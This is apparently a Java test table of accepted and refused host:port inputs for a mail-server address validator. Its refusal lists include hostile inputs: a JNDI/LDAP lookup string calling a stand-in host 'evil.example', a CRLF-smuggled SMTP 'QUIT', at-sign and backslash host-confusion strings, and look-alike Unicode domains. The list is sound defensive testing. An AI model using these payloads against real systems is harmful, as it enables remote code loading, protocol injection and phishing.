package org.emailregistry.address;

import static org.emailregistry.address.AddressProblem.*;

import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;

/** The specification as a table. Every entry point is held to it, under every locale. */
final class AddressTable {
    private static final String LABEL_63 = "a".repeat(63);
    /** 253 characters. */
    private static final String NAME_253 = (LABEL_63 + ".").repeat(3) + "b".repeat(61);

    private AddressTable() {}

    record Accepted(String text, String canonical, String display) {
        Accepted(String text, String canonical) {
            this(text, canonical, canonical);
        }
    }

    record Refused(@Nullable String text, AddressProblem problem, int offset, Optional<String> suggestion) {
        Refused(@Nullable String text, AddressProblem problem, int offset) {
            this(text, problem, offset, Optional.empty());
        }

        Refused(String text, AddressProblem problem, int offset, String suggestion) {
            this(text, problem, offset, Optional.of(suggestion));
        }
    }

    static Stream<Accepted> accepted() {
        return Stream.of(names(), literals(), unicode()).flatMap(List::stream);
    }

    static Stream<Refused> refused() {
        return Stream.of(
                        refusedForms(),
                        refusedPorts(),
                        refusedNames(),
                        refusedIpv4(),
                        refusedIpv6(),
                        refusedUnicode(),
                        refusedEncodings(),
                        nonsense())
                .flatMap(List::stream);
    }

    private static List<Accepted> names() {
        return List.of(
                new Accepted("imap.acme.example:993", "imap.acme.example:993"),
                new Accepted("IMAP.Acme.EXAMPLE:993", "imap.acme.example:993"),
                new Accepted("TITLE.INFO:25", "title.info:25"),
                new Accepted("mailserver:25", "mailserver:25"),
                new Accepted("localhost:1", "localhost:1"),
                new Accepted("a:65535", "a:65535"),
                new Accepted("z.zz:1", "z.zz:1"),
                new Accepted("A-Z.0-9.Z9:10", "a-z.0-9.z9:10"),
                new Accepted("1and1.example:587", "1and1.example:587"),
                new Accepted("1.2.3.4.example:587", "1.2.3.4.example:587"),
                new Accepted("1.2.3.4a:587", "1.2.3.4a:587"),
                new Accepted("0x7f.example:587", "0x7f.example:587"),
                new Accepted("mail.0a:587", "mail.0a:587"),
                new Accepted("mail.x0:587", "mail.x0:587"),
                new Accepted("mail.a0x:587", "mail.a0x:587"),
                new Accepted("mail.10x:587", "mail.10x:587"),
                new Accepted("r3---sn-abc.example:993", "r3---sn-abc.example:993"),
                new Accepted("axn--b.example:993", "axn--b.example:993"),
                new Accepted(LABEL_63 + ".example:993", LABEL_63 + ".example:993"),
                new Accepted(NAME_253 + ":993", NAME_253 + ":993"),
                new Accepted(" \t\r\n\u000b\fimap.acme.example:993\u2028\u00a0\u3000", "imap.acme.example:993"));
    }

    private static List<Accepted> literals() {
        return List.of(
                new Accepted("0.0.0.0:25", "0.0.0.0:25"),
                new Accepted("127.0.0.1:25", "127.0.0.1:25"),
                new Accepted("255.255.255.255:25", "255.255.255.255:25"),
                new Accepted("9.10.99.100:25", "9.10.99.100:25"),
                new Accepted("[::]:25", "[::]:25"),
                new Accepted("[::1]:993", "[::1]:993"),
                new Accepted("[1::]:993", "[1::]:993"),
                new Accepted("[2001:DB8::ABCD:EF]:993", "[2001:db8::abcd:ef]:993"),
                new Accepted("[2001:0db8:0000:0000:0001:0000:0000:0001]:993", "[2001:db8::1:0:0:1]:993"),
                new Accepted("[2001:db8:0:1:1:1:1:1]:993", "[2001:db8:0:1:1:1:1:1]:993"),
                new Accepted("[2001:db8::1:1:1:1:1]:993", "[2001:db8:0:1:1:1:1:1]:993"),
                new Accepted("[2001:0:0:1:0:0:0:1]:993", "[2001:0:0:1::1]:993"),
                new Accepted("[1:2:3:4:5:6:7:8]:993", "[1:2:3:4:5:6:7:8]:993"),
                new Accepted("[1:2:3:4:5:6:7::]:993", "[1:2:3:4:5:6:7:0]:993"),
                new Accepted("[::2:3:4:5:6:7:8]:993", "[0:2:3:4:5:6:7:8]:993"),
                new Accepted("[1:0:0:4:5:6:0:0]:993", "[1::4:5:6:0:0]:993"),
                new Accepted("[::ffff:192.0.2.1]:993", "[::ffff:192.0.2.1]:993"),
                new Accepted("[::FFFF:c000:0201]:993", "[::ffff:192.0.2.1]:993"),
                new Accepted("[0:0:0:0:0:ffff:1.2.3.4]:993", "[::ffff:1.2.3.4]:993"),
                new Accepted("[1:2:3:4:5:6:1.2.3.4]:993", "[1:2:3:4:5:6:102:304]:993"),
                new Accepted("[1::1.2.3.4]:993", "[1::102:304]:993"),
                new Accepted("[::1.2.3.4]:993", "[::102:304]:993"),
                new Accepted("[64:ff9b::127.0.0.1]:993", "[64:ff9b::7f00:1]:993"),
                new Accepted("[::1:2:3:255.254.253.252]:993", "[::1:2:3:fffe:fdfc]:993"),
                new Accepted(
                        "[ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff]:1", "[ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff]:1"));
    }

    private static List<Accepted> unicode() {
        return List.of(
                new Accepted("bücher.example:993", "xn--bcher-kva.example:993", "bücher.example:993"),
                new Accepted("xn--bcher-kva.example:993", "xn--bcher-kva.example:993", "bücher.example:993"),
                new Accepted("XN--BCHER-KVA.example:993", "xn--bcher-kva.example:993", "bücher.example:993"),
                new Accepted("mail.b-ü-9.example:993", "mail.xn--b--9-1ra.example:993", "mail.b-ü-9.example:993"),
                new Accepted("пример.испытание:25", "xn--e1afmkfd.xn--80akhbyknj4f:25", "пример.испытание:25"),
                new Accepted("παράδειγμα.δοκιμή:25", "xn--hxajbheg2az3al.xn--jxalpdlp:25", "παράδειγμα.δοκιμή:25"),
                new Accepted("例子.测试:25", "xn--fsqu00a.xn--0zwm56d:25", "例子.测试:25"),
                new Accepted("실례.테스트:25", "xn--9n2bp8q.xn--9t4b11yi5a:25", "실례.테스트:25"),
                new Accepted("उदाहरण.परीक्षा:25", "xn--p1b6ci4b4b3a.xn--11b5bs3a9aj6g:25", "उदाहरण.परीक्षा:25"),
                new Accepted("مثال.إختبار:25", "xn--mgbh0fb.xn--kgbechtv:25", "مثال.إختبار:25"),
                new Accepted("אבג.example:25", "xn--4dbcd.example:25", "אבג.example:25"),
                new Accepted("altın.example:25", "xn--altn-nza.example:25", "altın.example:25"),
                new Accepted("ü9.example:25", "xn--9-dha.example:25", "ü9.example:25"),
                new Accepted("ǰ.example:25", "xn--ska.example:25", "ǰ.example:25"),
                new Accepted("日本ー.example:25", "xn--wekz60nb2a.example:25", "日本ー.example:25"),
                // In ASCII they do no harm, but nobody is shown anything else.
                new Accepted("xn--fa-hia.example:25", "xn--fa-hia.example:25"),
                new Accepted("xn--pple-43d.example:25", "xn--pple-43d.example:25"),
                new Accepted("xn--ls8h.example:25", "xn--ls8h.example:25"),
                new Accepted("xn--1-zhc.example:25", "xn--1-zhc.example:25"),
                new Accepted("xn--7cb7d.example:25", "xn--7cb7d.example:25"),
                new Accepted("xn--zva.example:25", "xn--zva.example:25"),
                new Accepted("xn--r8jz45g.example:25", "xn--r8jz45g.example:25"));
    }

    private static List<Refused> refusedForms() {
        return List.of(
                new Refused(null, MISSING, 0),
                new Refused("", MISSING, 0),
                new Refused(" \t\u00a0", MISSING, 3),
                new Refused(":", HOST_MISSING, 0),
                new Refused(" :993", HOST_MISSING, 1),
                new Refused("imap.acme.example", PORT_MISSING, 17, "imap.acme.example:993"),
                new Refused("imap.acme.example ", PORT_MISSING, 17, "imap.acme.example:993"),
                new Refused("imap.acme.example:", PORT_MISSING, 18, "imap.acme.example:993"),
                new Refused("smtp.acme.example", PORT_MISSING, 17, "smtp.acme.example:465"),
                new Refused("SecureSMTP.acme.example:", PORT_MISSING, 24, "securesmtp.acme.example:465"),
                new Refused("10.0.0.1", PORT_MISSING, 8, "10.0.0.1:993"),
                new Refused("[::1]", PORT_MISSING, 5, "[::1]:993"),
                new Refused("bücher.example", PORT_MISSING, 14, "bücher.example:993"),
                new Refused("imap.acme.example 993", WHITE_SPACE, 17, "imap.acme.example:993"),
                new Refused("imap.acme.example\t\u00a0993", WHITE_SPACE, 17, "imap.acme.example:993"),
                new Refused("imap.acme.example: 993", WHITE_SPACE, 18, "imap.acme.example:993"),
                new Refused("imap.acme.example : 993", WHITE_SPACE, 17, "imap.acme.example:993"),
                new Refused("imap acme example:993", WHITE_SPACE, 4),
                new Refused("imap.acme.example:99 3", WHITE_SPACE, 20),
                new Refused("imap.acme.example\r\n:993", WHITE_SPACE, 17, "imap.acme.example:993"),
                new Refused("imap.acme.example:993\r\nQUIT", WHITE_SPACE, 21),
                new Refused("imaps://imap.acme.example/", SCHEME, 6, "imap.acme.example:993"),
                new Refused("IMAP://imap.acme.example", SCHEME, 5, "imap.acme.example:143"),
                new Refused("smtp://mail.acme.example", SCHEME, 5, "mail.acme.example:587"),
                new Refused("submission://mail.acme.example", SCHEME, 11, "mail.acme.example:587"),
                new Refused("smtps://mail.acme.example", SCHEME, 6, "mail.acme.example:465"),
                new Refused("submissions://mail.acme.example", SCHEME, 12, "mail.acme.example:465"),
                new Refused("https://imap.acme.example/#/login", SCHEME, 6, "imap.acme.example:993"),
                new Refused("imaps://imap.acme.example:1993/inbox?x=1", SCHEME, 6, "imap.acme.example:1993"),
                new Refused("imaps://joe:secret@imap.acme.example/", SCHEME, 6, "imap.acme.example:993"),
                new Refused("imaps://joe:12/4@imap.acme.example/", SCHEME, 6),
                new Refused("imaps://", SCHEME, 6),
                new Refused("//imap.acme.example:993", PATH, 0),
                new Refused("imap.acme.example:993/", PATH, 21, "imap.acme.example:993"),
                new Refused("imap.acme.example/", PATH, 17, "imap.acme.example:993"),
                new Refused("0mail.acme.example/", PATH, 18, "0mail.acme.example:993"),
                new Refused("imap.acme.example:993/inbox", PATH, 21, "imap.acme.example:993"),
                new Refused("imap.acme.example:993?x", PATH, 21, "imap.acme.example:993"),
                new Refused("imap.acme.example:993#x", PATH, 21, "imap.acme.example:993"),
                new Refused("imap.acme.example\\evil:993", PATH, 17, "imap.acme.example:993"),
                new Refused("imap.acme.example\\@evil.example:993", PATH, 17),
                new Refused("joe@acme.example", AT_SIGN, 3, "acme.example:993"),
                new Refused("joe@smtp.acme.example:587", AT_SIGN, 3, "smtp.acme.example:587"),
                new Refused("a@b@c.example:993", AT_SIGN, 1, "c.example:993"),
                new Refused("imap.acme.example:993@evil.example", AT_SIGN, 21, "evil.example:993"),
                new Refused("imap%2eacme.example:993", PERCENT, 4),
                new Refused("imap.acme.example:9%393", PERCENT, 19),
                new Refused("imap_1.acme.example:993", UNDERSCORE, 4),
                new Refused("_imaps._tcp.acme.example:993", UNDERSCORE, 0),
                new Refused("imap\u0000.acme.example:993", CONTROL_CHARACTER, 4),
                new Refused("\u001cimap.acme.example:993", CONTROL_CHARACTER, 0),
                new Refused("imap.acme.example:993\u0085", CONTROL_CHARACTER, 21),
                new Refused("imap.acme.example:993\u0000", CONTROL_CHARACTER, 21),
                new Refused("imap\u007f:993", CONTROL_CHARACTER, 4),
                new Refused("imap\ud800.acme.example:993", CONTROL_CHARACTER, 4),
                new Refused("imap\udc00\ud800:993", CONTROL_CHARACTER, 4),
                new Refused("\udc00imap:993", CONTROL_CHARACTER, 0),
                new Refused("imap:\ud800", CONTROL_CHARACTER, 5),
                new Refused("imap:9\udc00", CONTROL_CHARACTER, 6),
                new Refused("imap!:993", FORBIDDEN_CHARACTER, 4),
                new Refused("*.acme.example:993", FORBIDDEN_CHARACTER, 0),
                new Refused("imap[:993", FORBIDDEN_CHARACTER, 4),
                new Refused("imap`:993", FORBIDDEN_CHARACTER, 4),
                new Refused("imap{:993", FORBIDDEN_CHARACTER, 4),
                new Refused("imap,993", FORBIDDEN_CHARACTER, 4),
                new Refused("imap;993", FORBIDDEN_CHARACTER, 4));
    }

    private static List<Refused> refusedPorts() {
        return List.of(
                new Refused("imap.acme.example:0", PORT_OUT_OF_RANGE, 18),
                new Refused("imap.acme.example:65536", PORT_OUT_OF_RANGE, 18),
                new Refused("imap.acme.example:99999", PORT_OUT_OF_RANGE, 18),
                new Refused("imap.acme.example:4294967296", PORT_OUT_OF_RANGE, 18),
                new Refused("imap.acme.example:4294968289", PORT_OUT_OF_RANGE, 18),
                new Refused("imap.acme.example:18446744073709552609", PORT_OUT_OF_RANGE, 18),
                new Refused("imap.acme.example:0993", PORT_LEADING_ZERO, 18, "imap.acme.example:993"),
                new Refused("imap.acme.example:00", PORT_LEADING_ZERO, 18),
                new Refused("imap.acme.example:065536", PORT_LEADING_ZERO, 18),
                new Refused("imap.acme.example:+993", PORT_NOT_DIGITS, 18),
                new Refused("imap.acme.example:-993", PORT_NOT_DIGITS, 18),
                new Refused("imap.acme.example:993.", PORT_NOT_DIGITS, 21),
                new Refused("imap.acme.example:0x3e1", PORT_NOT_DIGITS, 19),
                new Refused("imap.acme.example:9e2", PORT_NOT_DIGITS, 19),
                new Refused("imap.acme.example:imaps", PORT_NOT_DIGITS, 18),
                new Refused("imap.acme.example:99,3", PORT_NOT_DIGITS, 20),
                new Refused("imap.acme.example:993:993", PORT_NOT_DIGITS, 21),
                new Refused("imap.acme.example::993", PORT_NOT_DIGITS, 18),
                new Refused("imap.acme.example:993]", PORT_NOT_DIGITS, 21),
                new Refused("imap.acme.example:\uff19\uff19\uff13", PORT_NOT_DIGITS, 18, "imap.acme.example:993"),
                new Refused("imap.acme.example:9\u0669\u0663", PORT_NOT_DIGITS, 19),
                new Refused("imap.acme.example:99\u00b3", PORT_NOT_DIGITS, 20),
                new Refused("imap.acme.example:/993", PATH, 18, "imap.acme.example:993"),
                new Refused("[::1]:0", PORT_OUT_OF_RANGE, 6),
                new Refused("10.0.0.1:65536", PORT_OUT_OF_RANGE, 9));
    }

    private static List<Refused> refusedNames() {
        return List.of(
                new Refused("imap..acme.example:993", LABEL_EMPTY, 5),
                new Refused(".acme.example:993", LABEL_EMPTY, 0),
                new Refused(".:993", LABEL_EMPTY, 0),
                new Refused("acme..:993", LABEL_EMPTY, 5),
                new Refused("imap.acme.example.:993", TRAILING_DOT, 17, "imap.acme.example:993"),
                new Refused("imap.acme.example.", TRAILING_DOT, 17, "imap.acme.example:993"),
                new Refused("127.0.0.1.:993", TRAILING_DOT, 9, "127.0.0.1:993"),
                new Refused("-imap.acme.example:993", LABEL_EDGE_HYPHEN, 0),
                new Refused("imap-.acme.example:993", LABEL_EDGE_HYPHEN, 4),
                new Refused("imap.-acme.example:993", LABEL_EDGE_HYPHEN, 5),
                new Refused("imap.acme.example-:993", LABEL_EDGE_HYPHEN, 17),
                new Refused("-:993", LABEL_EDGE_HYPHEN, 0),
                new Refused("imap.-:993", LABEL_EDGE_HYPHEN, 5),
                new Refused("a" + LABEL_63 + ".example:993", LABEL_TOO_LONG, 63),
                new Refused("mail." + LABEL_63 + "9:993", LABEL_TOO_LONG, 68),
                new Refused("mail." + LABEL_63 + "-:993", LABEL_TOO_LONG, 68),
                new Refused(NAME_253 + "b:993", NAME_TOO_LONG, 253),
                new Refused(NAME_253 + ".:993", NAME_TOO_LONG, 253),
                new Refused(NAME_253 + ".b:993", NAME_TOO_LONG, 253),
                new Refused("a".repeat(62) + ".a".repeat(96) + ":993", NAME_TOO_LONG, 253),
                new Refused("1.2.3.04:25", IPV4_LEADING_ZERO, 6));
    }

    private static List<Refused> refusedIpv4() {
        return List.of(
                new Refused("1.2.3.256:25", IPV4_OUT_OF_RANGE, 6),
                new Refused("300.2.3.4:25", IPV4_OUT_OF_RANGE, 0),
                new Refused("1.999.3.4:25", IPV4_OUT_OF_RANGE, 2),
                new Refused("1.2.3.1000:25", IPV4_OUT_OF_RANGE, 6),
                new Refused("1.2.3.10000:25", IPV4_OUT_OF_RANGE, 6),
                new Refused("1.2.3.4294967297:25", IPV4_OUT_OF_RANGE, 6),
                new Refused("0177.0.0.1:25", IPV4_LEADING_ZERO, 0),
                new Refused("127.00.0.1:25", IPV4_LEADING_ZERO, 4),
                new Refused("127.0.0.01:25", IPV4_LEADING_ZERO, 8),
                new Refused("127.1:25", NUMERIC_NAME, 4),
                new Refused("127.1:.5", NUMERIC_NAME, 4),
                new Refused("127.0.1:25", NUMERIC_NAME, 6),
                new Refused("2130706433:25", IPV4_OUT_OF_RANGE, 0),
                new Refused("0:25", NUMERIC_NAME, 0),
                new Refused("0x7f000001:25", NUMERIC_NAME, 0),
                new Refused("0X7f.0.0.1:25", NUMERIC_NAME, 9),
                new Refused("127.0.0.0x1:25", NUMERIC_NAME, 8),
                new Refused("127.0.0.0X1:25", NUMERIC_NAME, 8),
                new Refused("mail.0xacme:25", NUMERIC_NAME, 5),
                new Refused("mail.0x:25", NUMERIC_NAME, 5),
                new Refused("1.2.3.4.5:25", NUMERIC_NAME, 8),
                new Refused("mail.acme.123:25", NUMERIC_NAME, 10),
                new Refused("mail.1-2:25", NUMERIC_NAME, 5),
                new Refused("1.2.3-4.5:25", NUMERIC_NAME, 8));
    }

    private static List<Refused> refusedIpv6() {
        return List.of(
                new Refused("::1", IPV6_WITHOUT_BRACKETS, 0, "[::1]:993"),
                new Refused(" 2001:db8::1", IPV6_WITHOUT_BRACKETS, 1, "[2001:db8::1]:993"),
                new Refused("2001:db8::1:993", IPV6_WITHOUT_BRACKETS, 0, "[2001:db8::1]:993"),
                new Refused("2001:db8::1:25", IPV6_WITHOUT_BRACKETS, 0, "[2001:db8::1]:25"),
                new Refused("2001:db8::1:143", IPV6_WITHOUT_BRACKETS, 0, "[2001:db8::1]:143"),
                new Refused("2001:db8::1:465", IPV6_WITHOUT_BRACKETS, 0, "[2001:db8::1]:465"),
                new Refused("2001:db8::1:587", IPV6_WITHOUT_BRACKETS, 0, "[2001:db8::1]:587"),
                new Refused("2001:db8::1:99", IPV6_WITHOUT_BRACKETS, 0, "[2001:db8::1:99]:993"),
                new Refused("1:2:3:4:5:6:7:8", IPV6_WITHOUT_BRACKETS, 0, "[1:2:3:4:5:6:7:8]:993"),
                new Refused("1:2:3:4:5:6:7:8:993", IPV6_WITHOUT_BRACKETS, 0, "[1:2:3:4:5:6:7:8]:993"),
                new Refused("::ffff:10.0.0.1", IPV6_WITHOUT_BRACKETS, 0, "[::ffff:10.0.0.1]:993"),
                new Refused("fe80::1%eth0", IPV6_WITHOUT_BRACKETS, 0),
                new Refused("fe80::12345", IPV6_WITHOUT_BRACKETS, 0),
                new Refused("1:2:3:4:5:6:7", NUMERIC_NAME, 0),
                new Refused("[fe80::1%eth0]:993", IPV6_ZONE, 8),
                new Refused("[fe80::1%25eth0]:993", IPV6_ZONE, 8),
                new Refused("[fe80::%1]:993", IPV6_ZONE, 7),
                new Refused("[::1", IPV6_NOT_CLOSED, 4),
                new Refused("[::1:993", IPV6_NOT_CLOSED, 8),
                new Refused("[", IPV6_MALFORMED, 1),
                new Refused("[]:993", IPV6_MALFORMED, 1),
                new Refused("[:]:993", IPV6_MALFORMED, 2),
                new Refused("[:::]:993", IPV6_MALFORMED, 3),
                new Refused("[::1::]:993", IPV6_MALFORMED, 5),
                new Refused("[1::2::3]:993", IPV6_MALFORMED, 6),
                new Refused("[1:::2]:993", IPV6_MALFORMED, 4),
                new Refused("[1:]:993", IPV6_MALFORMED, 3),
                new Refused("[1:", IPV6_MALFORMED, 3),
                new Refused("[1:2:3:4:5:6:7:]:993", IPV6_MALFORMED, 15),
                new Refused("[:1:2:3:4:5:6:7]:993", IPV6_MALFORMED, 2),
                new Refused("[1:2:3:4:5:6:7]:993", IPV6_MALFORMED, 14),
                new Refused("[1:2:3:4:5:6:7:8:9]:993", IPV6_MALFORMED, 16),
                new Refused("[1::2:3:4:5:6:7:8]:993", IPV6_MALFORMED, 15),
                new Refused("[1:2:3:4::5:6:7:8]:993", IPV6_MALFORMED, 15),
                new Refused("[::12345]:993", IPV6_MALFORMED, 7),
                new Refused("[::g]:993", IPV6_MALFORMED, 3),
                new Refused("[::\uff11]:993", IPV6_MALFORMED, 3),
                new Refused("[ ::1]:993", IPV6_MALFORMED, 1),
                new Refused("[::1 ]:993", IPV6_MALFORMED, 4),
                new Refused("[::1.2.3]:993", IPV6_MALFORMED, 8),
                new Refused("[::1.2.3.4.5]:993", IPV6_MALFORMED, 10),
                new Refused("[::1.2.3.4:5]:993", IPV6_MALFORMED, 10),
                new Refused("[::.1.2.3]:993", IPV6_MALFORMED, 3),
                new Refused("[::1.2.3.]:993", IPV6_MALFORMED, 9),
                new Refused("[::1.2.3.a]:993", IPV6_MALFORMED, 9),
                new Refused("[::1.2a.3.4]:993", IPV6_MALFORMED, 6),
                new Refused("[::a.2.3.4]:993", IPV6_MALFORMED, 3),
                new Refused("[::1.2.3.256]:993", IPV4_OUT_OF_RANGE, 9),
                new Refused("[::1.2.03.4]:993", IPV4_LEADING_ZERO, 7),
                new Refused("[1.2.3.4]:993", IPV6_MALFORMED, 8),
                new Refused("[1:2:3:4:5:6:7:1.2.3.4]:993", IPV6_MALFORMED, 15),
                new Refused("[1::3:4:5:6:7:1.2.3.4]:993", IPV6_MALFORMED, 14),
                new Refused("[imap.acme.example]:993", IPV6_MALFORMED, 1),
                new Refused("[v1.abc]:993", IPV6_MALFORMED, 1),
                new Refused("[[::1]]:993", IPV6_MALFORMED, 1),
                new Refused("[::1]993", FORBIDDEN_CHARACTER, 5),
                new Refused("[::1]]:993", FORBIDDEN_CHARACTER, 5),
                new Refused("[::1]@evil.example:993", AT_SIGN, 5, "evil.example:993"),
                new Refused("[::1] :993", WHITE_SPACE, 5, "[::1]:993"),
                new Refused("[::1].:993", FORBIDDEN_CHARACTER, 5));
    }

    private static List<Refused> refusedUnicode() {
        return List.of(
                new Refused("BÜCHER.example:993", UNICODE_NOT_NORMAL, 0, "bücher.example:993"),
                new Refused("bücher.Example:993", UNICODE_NOT_NORMAL, 7, "bücher.example:993"),
                new Refused("bu\u0308cher.example:993", UNICODE_NOT_NORMAL, 1, "bücher.example:993"),
                new Refused("ﬁ.example:993", UNICODE_NOT_NORMAL, 0),
                new Refused("ſ.example:993", UNICODE_NOT_NORMAL, 0),
                new Refused("µ.example:993", UNICODE_NOT_NORMAL, 0),
                new Refused("ᾀ.example:993", UNICODE_NOT_NORMAL, 0),
                new Refused("\uab70.example:993", UNICODE_NOT_NORMAL, 0),
                new Refused("\u13a0.example:993", UNICODE_NOT_NORMAL, 0),
                new Refused("a\u0345.example:993", UNICODE_NOT_NORMAL, 1),
                new Refused("İ.example:993", UNICODE_NOT_NORMAL, 0, "i\u0307.example:993"),
                new Refused("\uff49map.acme.example:993", UNICODE_NOT_NORMAL, 0, "imap.acme.example:993"),
                new Refused("１２７.0.0.1:25", UNICODE_NOT_NORMAL, 0, "127.0.0.1:25"),
                new Refused("imap．acme．example：993", UNICODE_FORBIDDEN, 4, "imap.acme.example:993"),
                new Refused("imap。acme｡example:993", UNICODE_FORBIDDEN, 4, "imap.acme.example:993"),
                new Refused("①②⑦.0.0.1:25", UNICODE_FORBIDDEN, 0),
                new Refused("imap\u200b.acme.example:993", UNICODE_FORBIDDEN, 4),
                new Refused("imap\u00ad.acme.example:993", UNICODE_FORBIDDEN, 4),
                new Refused("\ufeffimap.acme.example:993", UNICODE_FORBIDDEN, 0),
                new Refused("imap\u202e.acme.example:993", UNICODE_FORBIDDEN, 4),
                new Refused("imap\u2215acme.example:993", UNICODE_FORBIDDEN, 4),
                new Refused("\ud83d\udca9.example:993", UNICODE_FORBIDDEN, 0),
                new Refused("\u0301a.example:993", UNICODE_FORBIDDEN, 0),
                new Refused("ü.\u0301a:993", UNICODE_FORBIDDEN, 2),
                new Refused("\u115f.example:993", UNICODE_FORBIDDEN, 0),
                new Refused("ü\ufe0f.example:993", UNICODE_FORBIDDEN, 1),
                new Refused("ü\u034f.example:993", UNICODE_FORBIDDEN, 1),
                new Refused("ü\u00a0x.example:993", WHITE_SPACE, 1),
                new Refused("ü_.example:993", UNDERSCORE, 1),
                new Refused("ü\u0000.example:993", CONTROL_CHARACTER, 1),
                new Refused("ü\ud800.example:993", CONTROL_CHARACTER, 1),
                new Refused("ü@example:993", AT_SIGN, 1, "example:993"),
                new Refused("straße.example:993", UNICODE_DEVIATION, 4),
                new Refused("βόλος.example:993", UNICODE_DEVIATION, 4),
                new Refused("نامه\u200cای.example:993", UNICODE_DEVIATION, 4),
                new Refused("क्\u200dष.example:993", UNICODE_DEVIATION, 2),
                new Refused("\u0430pple.example:993", UNICODE_MIXED_SCRIPTS, 1),
                new Refused("p\u0430ypal.example:993", UNICODE_MIXED_SCRIPTS, 1),
                new Refused("例え.example:993", UNICODE_MIXED_SCRIPTS, 1),
                new Refused("ü..example:993", LABEL_EMPTY, 2),
                new Refused(".ü:993", LABEL_EMPTY, 0),
                new Refused("ü.:993", TRAILING_DOT, 1, "ü:993"),
                new Refused("-ü.example:993", LABEL_EDGE_HYPHEN, 0),
                new Refused("ü-.example:993", LABEL_EDGE_HYPHEN, 1),
                new Refused("mail.ü-:993", LABEL_EDGE_HYPHEN, 6),
                new Refused("ü.-a:993", LABEL_EDGE_HYPHEN, 2),
                new Refused("ab--ü.example:993", UNICODE_AMBIGUOUS, 2),
                new Refused("ü.xn--p1ai:993", UNICODE_AMBIGUOUS, 0),
                new Refused("xn--p1ai.ü:993", UNICODE_AMBIGUOUS, 0),
                new Refused("ü.xn--fa-hia:993", UNICODE_AMBIGUOUS, 0),
                new Refused("0à.א:993", UNICODE_AMBIGUOUS, 0),
                new Refused("אa.example:993", UNICODE_MIXED_SCRIPTS, 1),
                new Refused("א.1a:993", UNICODE_AMBIGUOUS, 0),
                new Refused("ü\u0661.example:993", UNICODE_MIXED_SCRIPTS, 1),
                new Refused("ب1\u0661ب.example:993", UNICODE_AMBIGUOUS, 0),
                new Refused("ü.123:25", NUMERIC_NAME, 2),
                new Refused("ü.0x1:25", NUMERIC_NAME, 2),
                new Refused("१२७.०.०.१:25", NUMERIC_NAME, 8),
                new Refused("ü".repeat(64) + ".example:993", LABEL_TOO_LONG, 63),
                new Refused("mail." + "ü".repeat(60) + "例:993", UNICODE_MIXED_SCRIPTS, 65),
                new Refused("例子".repeat(31) + ".example:993", LABEL_TOO_LONG, 0),
                new Refused("ü." + (LABEL_63 + ".").repeat(3) + LABEL_63 + ":993", NAME_TOO_LONG, 194),
                new Refused("ü." + "a.".repeat(300) + "a:993", NAME_TOO_LONG, 506));
    }

    private static List<Refused> refusedEncodings() {
        return List.of(
                new Refused("xn--.example:993", LABEL_EDGE_HYPHEN, 3),
                new Refused("xn---.example:993", LABEL_EDGE_HYPHEN, 4),
                new Refused("xn--a.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--a.-b:993", A_LABEL_INVALID, 0),
                new Refused("mail.xn--a:993", A_LABEL_INVALID, 5),
                new Refused("XN--a.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--abc-.example:993", LABEL_EDGE_HYPHEN, 7),
                new Refused("xn--99999999.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--bcher-kv.example:993", A_LABEL_INVALID, 0),
                new Refused("xn----kva.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--u-ccb.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--a-wbb.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--r3a.example:993", A_LABEL_INVALID, 0),
                new Refused("mail.xn----eha.example:993", A_LABEL_INVALID, 5),
                new Refused("mail.example.xn----dha:993", A_LABEL_INVALID, 13),
                new Refused("xn--ab---3ra.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--a-zhc.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--0-sfa.xn--4db:993", A_LABEL_INVALID, 0),
                new Refused("xn--4db.1a:993", A_LABEL_INVALID, 0),
                new Refused("1a.xn--4db:993", A_LABEL_INVALID, 3),
                new Refused("xn--1ug.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--wca.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--0qg.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--9hb.example:993", A_LABEL_INVALID, 0),
                new Refused("xn--a-ü.example:993", UNICODE_AMBIGUOUS, 2),
                new Refused("xn---ü.example:993", UNICODE_AMBIGUOUS, 2));
    }

    /** What other parsers let through. */
    private static List<Refused> nonsense() {
        return List.of(
                new Refused("imap.acme.example:993,imap2.acme.example", PORT_NOT_DIGITS, 21),
                new Refused("imap.acme.example:993\u00a0;", WHITE_SPACE, 21),
                new Refused("'imap.acme.example':993", FORBIDDEN_CHARACTER, 0),
                new Refused("<imap.acme.example:993>", FORBIDDEN_CHARACTER, 0),
                new Refused("imap.acme.example:993 (TLS)", WHITE_SPACE, 21),
                new Refused("${jndi:ldap://evil.example/a}:993", FORBIDDEN_CHARACTER, 0),
                new Refused("gmail.com:80:80", PORT_NOT_DIGITS, 12),
                new Refused("1.1.1.1 &@2.2.2.2# @3.3.3.3/", WHITE_SPACE, 7),
                new Refused("127.0.0.1:25:80", PORT_NOT_DIGITS, 12),
                new Refused("@:993", AT_SIGN, 0));
    }
}
